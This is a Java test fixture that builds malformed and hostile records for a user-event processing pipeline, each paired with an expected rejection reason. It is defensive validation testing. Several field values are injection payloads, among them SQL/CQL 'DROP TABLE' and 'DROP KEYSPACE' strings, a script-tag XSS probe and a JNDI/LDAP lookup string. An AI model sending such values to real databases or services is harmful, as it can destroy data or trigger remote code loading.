package io.userpipeline.faults;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.UUID;
import java.util.function.UnaryOperator;
import java.util.regex.Matcher;

import io.userpipeline.event.RejectionReason;
import io.userpipeline.event.UserEvent;
import io.userpipeline.event.UserEventJson;

/**
 * What a hostile or broken producer can put on the user topic: malformed JSON, wrong types, missing fields, bad
 * UUIDs, out-of-range dates, ~1 MB payloads, binary, control characters, SQL/CQL injection and broken Unicode,
 * each with the reason the processor must give (null where more than one reason is right). Also valid events whose
 * values look hostile (injection strings, rare Unicode) and must be stored verbatim.
 */
final class HostileCorpus {

    /** A record to produce as is; {@code expectedReason} is null for a valid event. */
    record Hostile(String label, byte[] value, String expectedReason) {
    }

    private final List<Hostile> bad = new ArrayList<>();

    static List<Hostile> badRecords() {
        HostileCorpus corpus = new HostileCorpus();
        corpus.build();
        return List.copyOf(corpus.bad);
    }

    /** An ordinary valid event of a new user. */
    static UserEvent validEvent() {
        return validEvent("Ada", "Lovelace", "12 St James's Square", "London", "ada");
    }

    static UserEvent validEvent(String firstName, String lastName, String street, String city, String username) {
        UUID user = UUID.randomUUID();
        return new UserEvent(UserEvent.CURRENT_SCHEMA_VERSION, UUID.randomUUID(), "fault-suite",
                Instant.now().truncatedTo(ChronoUnit.MILLIS), user, "Ms", firstName, lastName, "female",
                "user-" + user + "@example.com", "+44 20 7946 0000", null, LocalDate.of(1990, 5, 17), street, city, null,
                "United Kingdom", "SW1Y 4LE", username, Instant.parse("2012-03-04T10:11:12Z"), null, "GB");
    }

    /** Valid events whose values are injection strings or rare Unicode: stored as they are, and harming nothing. */
    static List<UserEvent> hostileLookingValidEvents() {
        return List.of(
                validEvent("Robert'); DROP TABLE users;--", "O'Brien\"; DROP KEYSPACE user_pipeline; --",
                        "1 Main St'); DELETE FROM users WHERE ('1'='1", "'; TRUNCATE users_by_id; --", "admin'--"),
                validEvent("$$; DROP TABLE users; $$", "x' AND 1=(SELECT count(*) FROM pg_tables); --",
                        "BEGIN BATCH DELETE FROM users_by_id WHERE user_id=now(); APPLY BATCH;", "\\'; COPY users TO '/tmp/x",
                        "robert_tables"),
                validEvent("😀 Smiley", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢", "Straße 5", "İzmir", "emoji😀user"),
                validEvent("محمد", "山田", "ул. Ленина 1", "Ærøskøbing", "rtl_cjk"),
                validEvent("Zoe\u0308", "N\u0303on\u0303o", "Rue de l'Église", "Saint-Étienne", "combining"),
                validEvent("A".repeat(100), "👩‍👩‍👧‍👦 Family", "Ω≈ç√∫", "Zürich", "longest_first_name"),
                validEvent("Null", "undefined", "<script>alert(1)</script>", "${jndi:ldap://x/a}", "null"));
    }

    private void build() {
        String valid = json(validEvent());
        malformedJson(valid);
        wrongTypes();
        missingFields();
        badUuids();
        outOfRangeDates();
        largePayloads();
        binary();
        controlCharacters();
        injectionInRuledFields();
        brokenUnicode();
        otherRules();
    }

    private void malformedJson(String valid) {
        text("not-json", "this is not JSON at all", RejectionReason.MALFORMED_JSON);
        text("open-brace", "{", RejectionReason.MALFORMED_JSON);
        text("close-brace", "}", RejectionReason.MALFORMED_JSON);
        text("json-null", "null", RejectionReason.MALFORMED_JSON);
        text("json-empty-array", "[]", RejectionReason.MALFORMED_JSON);
        text("json-array", "[1,2,3]", RejectionReason.MALFORMED_JSON);
        text("json-true", "true", RejectionReason.MALFORMED_JSON);
        text("json-string", "\"just a string\"", RejectionReason.MALFORMED_JSON);
        text("json-number", "42", RejectionReason.MALFORMED_JSON);
        text("truncated-third", valid.substring(0, valid.length() / 3), RejectionReason.MALFORMED_JSON);
        text("truncated-two-thirds", valid.substring(0, 2 * valid.length() / 3), RejectionReason.MALFORMED_JSON);
        text("missing-last-brace", valid.substring(0, valid.length() - 1), RejectionReason.MALFORMED_JSON);
        text("trailing-object", valid + " {}", RejectionReason.MALFORMED_JSON);
        text("trailing-garbage", valid + "x", RejectionReason.MALFORMED_JSON);
        text("single-quotes", valid.replace('"', '\''), RejectionReason.MALFORMED_JSON);
        text("trailing-comma", valid.substring(0, valid.length() - 1) + ",}", RejectionReason.MALFORMED_JSON);
        text("comment", "/* hi */" + valid, RejectionReason.MALFORMED_JSON);
        text("duplicate-key", valid.replaceFirst("\\{", "{\"email\":\"a@b.com\","), RejectionReason.MALFORMED_JSON);
        text("nan", field("schemaVersion", "NaN").apply(valid), RejectionReason.MALFORMED_JSON);
        text("unquoted-key", valid.replace("\"firstName\"", "firstName"), RejectionReason.MALFORMED_JSON);
        text("empty-object", "{}", RejectionReason.MISSING_FIELD);
        text("whitespace-only", "   \n\t ", null);
        text("empty", "", RejectionReason.EMPTY_PAYLOAD);
    }

    private void wrongTypes() {
        edited("type-first-name-number", field("firstName", "42"), RejectionReason.WRONG_TYPE);
        edited("type-last-name-boolean", field("lastName", "true"), RejectionReason.WRONG_TYPE);
        edited("type-email-number", field("email", "123"), RejectionReason.WRONG_TYPE);
        edited("type-phone-object", field("phone", "{\"n\":1}"), RejectionReason.WRONG_TYPE);
        edited("type-city-array", field("city", "[\"London\"]"), RejectionReason.WRONG_TYPE);
        edited("type-street-float", field("street", "1.5"), RejectionReason.WRONG_TYPE);
        edited("type-country-boolean", field("country", "false"), RejectionReason.WRONG_TYPE);
        edited("type-username-number", field("username", "7"), RejectionReason.WRONG_TYPE);
        edited("type-gender-number", field("gender", "1"), RejectionReason.WRONG_TYPE);
        edited("type-postcode-object", field("postcode", "{}"), RejectionReason.WRONG_TYPE);
        edited("type-schema-version-text", field("schemaVersion", "\"one\""), null);
        edited("type-date-of-birth-number", field("dateOfBirth", "19900517"), null);
    }

    private void missingFields() {
        for (String name : List.of("eventId", "userId", "firstName", "lastName", "gender", "email", "phone",
                "dateOfBirth", "street", "city", "country", "username", "registeredAt")) {
            edited("missing-" + name, without(name), RejectionReason.MISSING_FIELD);
        }
        edited("missing-schema-version", without("schemaVersion"), null);
        edited("missing-source", without("source"), RejectionReason.MISSING_FIELD);
        edited("missing-ingested-at", without("ingestedAt"), RejectionReason.MISSING_FIELD);
        edited("null-first-name", field("firstName", "null"), RejectionReason.MISSING_FIELD);
        edited("null-email", field("email", "null"), RejectionReason.MISSING_FIELD);
        edited("blank-first-name", field("firstName", "\"   \""), RejectionReason.MISSING_FIELD);
        edited("empty-last-name", field("lastName", "\"\""), RejectionReason.MISSING_FIELD);
    }

    private void badUuids() {
        edited("uuid-words", field("userId", "\"not-a-uuid\""), RejectionReason.INVALID_UUID);
        edited("uuid-number", field("userId", "12345"), RejectionReason.INVALID_UUID);
        edited("uuid-short", field("userId", "\"6f1c5c2e-3a1d-4d0a-b8f7-7a2c9e4d1b5\""), RejectionReason.INVALID_UUID);
        edited("uuid-long", field("userId", "\"6f1c5c2e-3a1d-4d0a-b8f7-7a2c9e4d1b55a\""), RejectionReason.INVALID_UUID);
        edited("uuid-not-hex", field("userId", "\"zzzzzzzz-zzzz-zzzz-zzzz-zzzzzzzzzzzz\""), RejectionReason.INVALID_UUID);
        edited("uuid-braces", field("userId", "\"{6f1c5c2e-3a1d-4d0a-b8f7-7a2c9e4d1b55}\""), RejectionReason.INVALID_UUID);
        edited("uuid-sql-injection", field("userId", "\"' OR 1=1 --\""), RejectionReason.INVALID_UUID);
        edited("uuid-empty", field("userId", "\"\""), null);
        edited("event-uuid-words", field("eventId", "\"not-a-uuid\""), RejectionReason.INVALID_UUID);
        edited("event-uuid-number", field("eventId", "7"), RejectionReason.INVALID_UUID);
    }

    private void outOfRangeDates() {
        edited("birth-in-future", field("dateOfBirth", "\"2999-01-01\""), RejectionReason.DATE_NOT_IN_PAST);
        edited("birth-before-1900", field("dateOfBirth", "\"1850-01-01\""), RejectionReason.DATE_OUT_OF_RANGE);
        edited("birth-february-30", field("dateOfBirth", "\"2023-02-30\""), RejectionReason.INVALID_DATE);
        edited("birth-month-13", field("dateOfBirth", "\"1990-13-01\""), RejectionReason.INVALID_DATE);
        edited("birth-zeros", field("dateOfBirth", "\"0000-00-00\""), RejectionReason.INVALID_DATE);
        edited("birth-day-first", field("dateOfBirth", "\"17/05/1990\""), RejectionReason.INVALID_DATE);
        edited("birth-hour-25", field("dateOfBirth", "\"1990-05-17T25:00:00Z\""), RejectionReason.INVALID_DATE);
        edited("ingested-in-future", field("ingestedAt", "\"2999-01-01T00:00:00Z\""), RejectionReason.DATE_IN_FUTURE);
        edited("ingested-year-300000", field("ingestedAt", "\"+300000-01-01T00:00:00Z\""), RejectionReason.DATE_IN_FUTURE);
        edited("registered-before-birth", field("registeredAt", "\"1980-01-01T00:00:00Z\""), RejectionReason.REGISTERED_BEFORE_BIRTH);
        edited("registered-in-future", field("registeredAt", "\"2999-01-01T00:00:00Z\""), null);
        edited("registered-words", field("registeredAt", "\"yesterday\""), RejectionReason.INVALID_DATE);
    }

    private void largePayloads() {
        byte[] megabyte = new byte[1_000_000];
        Arrays.fill(megabyte, (byte) 'x');
        bytes("one-megabyte-of-x", megabyte, RejectionReason.PAYLOAD_TOO_LARGE);
        edited("one-megabyte-first-name", field("firstName", "\"" + "A".repeat(999_000) + "\""), RejectionReason.PAYLOAD_TOO_LARGE);
        edited("padded-past-limit", json -> json.replaceFirst("\\{", "{\"padding\":\"" + "p".repeat(70_000) + "\","),
                RejectionReason.PAYLOAD_TOO_LARGE);
        edited("long-first-name", field("firstName", "\"" + "A".repeat(101) + "\""), RejectionReason.TOO_LONG);
    }

    private void binary() {
        byte[] descending = new byte[256];
        for (int i = 0; i < descending.length; i++) {
            descending[i] = (byte) (255 - i);
        }
        bytes("binary-descending", descending, RejectionReason.MALFORMED_JSON);
        byte[] random = new byte[1024];
        new Random(9).nextBytes(random);
        random[0] = 0x7f;
        bytes("binary-random", random, RejectionReason.MALFORMED_JSON);
        bytes("binary-gzip", new byte[] { 0x1f, (byte) 0x8b, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x03 }, RejectionReason.MALFORMED_JSON);
        bytes("binary-png", new byte[] { (byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n' }, RejectionReason.MALFORMED_JSON);
        bytes("binary-zeros", new byte[1024], null);
        bytes("invalid-utf8-in-string", concat("{\"schemaVersion\":1,\"firstName\":\"", new byte[] { (byte) 0xc3, 0x28 }, "\"}"),
                null);
        bytes("overlong-utf8-in-string", concat("{\"schemaVersion\":1,\"firstName\":\"", new byte[] { (byte) 0xc0, (byte) 0xaf },
                "\"}"), null);
    }

    private void controlCharacters() {
        edited("control-nul", field("lastName", "\"Null\\u0000Byte\""), RejectionReason.CONTROL_CHARACTERS);
        edited("control-newline", field("city", "\"Izmir\\nDROP\""), RejectionReason.CONTROL_CHARACTERS);
        edited("control-bell", field("firstName", "\"Bell\\u0007\""), RejectionReason.CONTROL_CHARACTERS);
        edited("control-escape", field("street", "\"Esc\\u001b[31m Road\""), RejectionReason.CONTROL_CHARACTERS);
        edited("control-tab-inside", field("username", "\"tab\\there\""), RejectionReason.CONTROL_CHARACTERS);
        edited("control-carriage-return", field("lastName", "\"cr\\rlf\""), RejectionReason.CONTROL_CHARACTERS);
        edited("control-delete", field("city", "\"del\\u007fete\""), null);
        edited("control-c1-next-line", field("firstName", "\"nel\\u0085\""), null);
    }

    private void injectionInRuledFields() {
        edited("sql-in-email", field("email", "\"x'; DROP TABLE users; --@example.com\""), RejectionReason.INVALID_EMAIL);
        edited("sql-in-email-tail", field("email", "\"a@b.com'); TRUNCATE users_by_id;--\""), RejectionReason.INVALID_EMAIL);
        edited("sql-in-gender", field("gender", "\"male' OR '1'='1\""), RejectionReason.INVALID_GENDER);
        edited("sql-in-gender-statement", field("gender", "\"female; DROP TABLE users\""), RejectionReason.INVALID_GENDER);
        edited("cql-in-phone", field("phone", "\"1; DROP KEYSPACE user_pipeline\""), RejectionReason.INVALID_PHONE);
        edited("sql-dollar-quote-in-phone", field("phone", "\"$$ DROP $$\""), RejectionReason.INVALID_PHONE);
        edited("sql-in-nationality", field("nationality", "\"'; --\""), RejectionReason.TOO_LONG);
        edited("sql-in-date-of-birth", field("dateOfBirth", "\"1990-01-01'; DROP TABLE users;--\""), RejectionReason.INVALID_DATE);
        edited("cql-in-schema-version", field("schemaVersion", "\"1; DROP TABLE users\""), null);
    }

    private void brokenUnicode() {
        edited("lone-high-surrogate", field("city", "\"Izmir\\ud800\""), RejectionReason.INVALID_UNICODE);
        edited("lone-low-surrogate", field("firstName", "\"\\udc00Ayse\""), RejectionReason.INVALID_UNICODE);
        edited("reversed-surrogates", field("lastName", "\"\\udc00\\ud800\""), RejectionReason.INVALID_UNICODE);
        edited("emoji-too-long", field("firstName", "\"" + "😀".repeat(101) + "\""), RejectionReason.TOO_LONG);
        edited("name-too-long", field("lastName", "\"" + "Ö".repeat(101) + "\""), RejectionReason.TOO_LONG);
    }

    private void otherRules() {
        edited("gender-robot", field("gender", "\"robot\""), RejectionReason.INVALID_GENDER);
        edited("email-no-at", field("email", "\"not-an-email\""), RejectionReason.INVALID_EMAIL);
        edited("email-no-dot", field("email", "\"someone@localhost\""), RejectionReason.INVALID_EMAIL);
        edited("phone-words", field("phone", "\"call me maybe\""), RejectionReason.INVALID_PHONE);
        edited("schema-version-99", field("schemaVersion", "99"), RejectionReason.UNSUPPORTED_SCHEMA_VERSION);
        edited("schema-version-0", field("schemaVersion", "0"), RejectionReason.UNSUPPORTED_SCHEMA_VERSION);
        edited("nationality-three-letters", field("nationality", "\"TUR\""), RejectionReason.TOO_LONG);
    }

    private void text(String label, String value, RejectionReason reason) {
        bytes(label, value.getBytes(StandardCharsets.UTF_8), reason);
    }

    private void bytes(String label, byte[] value, RejectionReason reason) {
        bad.add(new Hostile(label, value, reason == null ? null : reason.wireName()));
    }

    /** A fresh valid event's JSON with one change. */
    private void edited(String label, UnaryOperator<String> edit, RejectionReason reason) {
        String before = json(validEvent());
        String after = edit.apply(before);
        if (after.equals(before)) {
            throw new IllegalStateException("The edit of hostile record " + label + " changed nothing");
        }
        text(label, after, reason);
    }

    static String json(UserEvent event) {
        return new String(UserEventJson.write(event), StandardCharsets.UTF_8);
    }

    private static UnaryOperator<String> field(String name, String replacementJsonValue) {
        return json -> json.replaceFirst("\"" + name + "\":\\s*(\"[^\"]*\"|[0-9]+|null)",
                Matcher.quoteReplacement("\"" + name + "\":" + replacementJsonValue));
    }

    private static UnaryOperator<String> without(String name) {
        return json -> json.replaceFirst("\"" + name + "\":(\"[^\"]*\"|[0-9]+|null),?", "");
    }

    private static byte[] concat(String head, byte[] middle, String tail) {
        byte[] first = head.getBytes(StandardCharsets.UTF_8);
        byte[] last = tail.getBytes(StandardCharsets.UTF_8);
        byte[] all = Arrays.copyOf(first, first.length + middle.length + last.length);
        System.arraycopy(middle, 0, all, first.length, middle.length);
        System.arraycopy(last, 0, all, first.length + middle.length, last.length);
        return all;
    }
}
